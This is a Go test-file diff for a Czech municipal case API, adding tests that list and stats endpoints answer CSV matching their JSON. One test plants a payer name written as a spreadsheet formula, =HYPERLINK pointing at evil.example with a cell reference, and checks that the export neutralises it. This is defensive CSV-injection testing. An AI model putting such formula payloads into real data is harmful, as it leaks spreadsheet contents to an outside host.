@@ -2,15 +2,15 @@ package handlers_test
 
 import (
 	"encoding/csv"
+	"encoding/json"
 	"fmt"
+	"net/http"
 	"regexp"
 	"slices"
 	"strings"
 	"testing"
 
 	"github.com/lhuta/lhuta/domain/calendar"
-	"github.com/lhuta/lhuta/eventstore"
-	"github.com/lhuta/lhuta/internal/testdb"
 	"github.com/lhuta/lhuta/projections/views"
 )
 
@@ -68,8 +68,7 @@ func walk(s *stack, path string, limit int, pos int64) []map[string]any {
 // items come in every order; an order a list does not take is 400, and a
 // cursor of one order is refused by another.
 func TestListsSortByDueDateNameAndOffice(t *testing.T) {
-	testdb.Each(t, func(t *testing.T, db *eventstore.DB) {
-		s := newStack(t, db, calendar.NewDate(2026, 6, 1))
+	eachStack(t, calendar.NewDate(2026, 6, 1), func(t *testing.T, s *stack) {
 		pos := sortedPeople(s)
 		key := func(it map[string]any, field string) string { return fmt.Sprint(it[field]) }
 		for _, list := range []string{"/v1/obligations", "/v1/sla", "/v1/flags"} {
@@ -136,8 +135,7 @@ func TestListsSortByDueDateNameAndOffice(t *testing.T) {
 // separated by semicolons after a UTF-8 BOM, the headers are Czech and the
 // dates d. m. yyyy.
 func TestExportAllAndCSVForCzechExcel(t *testing.T) {
-	testdb.Each(t, func(t *testing.T, db *eventstore.DB) {
-		s := newStack(t, db, calendar.NewDate(2026, 6, 1))
+	eachStack(t, calendar.NewDate(2026, 6, 1), func(t *testing.T, s *stack) {
 		pos := sortedPeople(s)
 		all := walk(s, "/v1/obligations?as_of=2026-06-01", 500, pos)
 		body, header := get(t, s, fmt.Sprintf("/v1/obligations?as_of=2026-06-01&limit=1&export=all&min_position=%d", pos), "officer-token", "application/json")
@@ -187,7 +185,7 @@ func TestExportAllAndCSVForCzechExcel(t *testing.T) {
 
 // A payment item names its case's reference and its payer.
 func TestPaymentItemsCarryReferenceAndName(t *testing.T) {
-	s := newStack(t, testdb.SQLite(t), calendar.NewDate(2026, 4, 10))
+	s := sqliteStack(t, calendar.NewDate(2026, 4, 10))
 	_, pos := s.dogOwner("p-ref")
 	items := s.payments("/v1/payments", "clerk-token", pos)
 	if len(items) == 0 {
@@ -198,4 +196,99 @@ func TestPaymentItemsCarryReferenceAndName(t *testing.T) {
 			t.Errorf("payment item: reference %v, full_name %v", it["reference"], it["full_name"])
 		}
 	}
+}
+
+// get fetches a path with an Accept header.
+func get(t *testing.T, s *stack, path, token, accept string) (string, http.Header) {
+	t.Helper()
+	r := s.send("GET", path, token, map[string]string{"Accept": accept}, nil)
+	if r.status != 200 {
+		t.Fatalf("GET %s (%s): %d %s", path, accept, r.status, r.raw)
+	}
+	return r.raw, r.header
+}
+
+// Lists answer CSV with Accept: text/csv: the same items as the JSON, the
+// JSON field names as the header row; stats as rows of figures.
+func TestListsAndStatsAnswerCSV(t *testing.T) {
+	eachStack(t, calendar.NewDate(2026, 6, 1), func(t *testing.T, s *stack) {
+		var last int64
+		for range 3 {
+			id, _ := s.openCase("id_card_incident", "1980-05-17")
+			last = s.record(id, "IncidentReported", map[string]any{"kind": "lost", "reported_on": "2026-04-01", "reported_to": "police"})
+		}
+		for _, path := range []string{"/v1/obligations", "/v1/flags", "/v1/sla"} {
+			q := fmt.Sprintf("%s?min_position=%d&limit=2", path, last)
+			js, _ := get(t, s, q, "officer-token", "application/json")
+			var page struct {
+				Items      []map[string]any `json:"items"`
+				NextCursor string           `json:"next_cursor"`
+			}
+			if err := json.Unmarshal([]byte(js), &page); err != nil {
+				t.Fatal(err)
+			}
+			body, header := get(t, s, q, "officer-token", "text/csv")
+			if !strings.HasPrefix(header.Get("Content-Type"), "text/csv") || header.Get("Next-Cursor") != page.NextCursor {
+				t.Errorf("%s as CSV: Content-Type %q, Next-Cursor %q (JSON's next_cursor %q)", path, header.Get("Content-Type"),
+					header.Get("Next-Cursor"), page.NextCursor)
+			}
+			rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+			if err != nil {
+				t.Fatalf("%s: %v", path, err)
+			}
+			if len(rows) != len(page.Items)+1 {
+				t.Fatalf("%s: %d CSV rows for %d items:\n%s", path, len(rows), len(page.Items), body)
+			}
+			for i, it := range page.Items {
+				for col, name := range rows[0] {
+					want := ""
+					if v, ok := it[name]; ok && v != nil {
+						want = fmt.Sprint(v)
+					}
+					if rows[i+1][col] != want {
+						t.Errorf("%s item %d %s: CSV %q, JSON %q", path, i, name, rows[i+1][col], want)
+					}
+				}
+			}
+		}
+		body, _ := get(t, s, "/v1/stats?from=2026-01-01", "dash-token", "text/csv")
+		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+		if err != nil || !slices.Equal(rows[0], []string{"figure", "key", "status", "count"}) ||
+			!slices.ContainsFunc(rows, func(r []string) bool {
+				return slices.Equal(r, []string{"by_situation", "id_card_incident", "overdue", "3"})
+			}) {
+			t.Fatalf("stats as CSV: %v\n%s", err, body)
+		}
+	})
+}
+
+// A name typed as a formula stays text in a spreadsheet: the CSV cell gets
+// a leading apostrophe (CSV injection), numbers stay numbers.
+func TestCSVCellsAreNeverFormulas(t *testing.T) {
+	eachStack(t, calendar.NewDate(2026, 3, 10), func(t *testing.T, s *stack) {
+		id := s.payer("p-1", "1980-05-17", `=HYPERLINK("http://evil.example/"&A1)`)
+		pos := s.record(id, "LocalFeeLiabilityArose", map[string]any{"fee": "waste", "arose_on": "2026-01-15",
+			"basis": "permanent_residence", "house_number": "154", "village_part": "Nová Ves"})
+		payments := s.send("GET", fmt.Sprintf("/v1/payments?min_position=%d", pos), "clerk-token", map[string]string{"Accept": "text/csv"}, nil)
+		rows, err := csv.NewReader(strings.NewReader(payments.raw)).ReadAll()
+		if err != nil || len(rows) != 2 {
+			t.Fatalf("CSV: %v %v", rows, err)
+		}
+		header, row := rows[0], rows[1]
+		for i, name := range header {
+			switch name {
+			case "message":
+				if !strings.HasPrefix(row[i], `'=HYPERLINK(`) {
+					t.Errorf("message cell %q: a formula", row[i])
+				}
+			case "amount_czk":
+				if row[i] != "1200" {
+					t.Errorf("amount cell %q", row[i])
+				}
+			}
+			if c := row[i]; c != "" && strings.ContainsRune("=+@", rune(c[0])) {
+				t.Errorf("cell %s = %q begins a formula", name, c)
+			}
+		}
+	})
 }
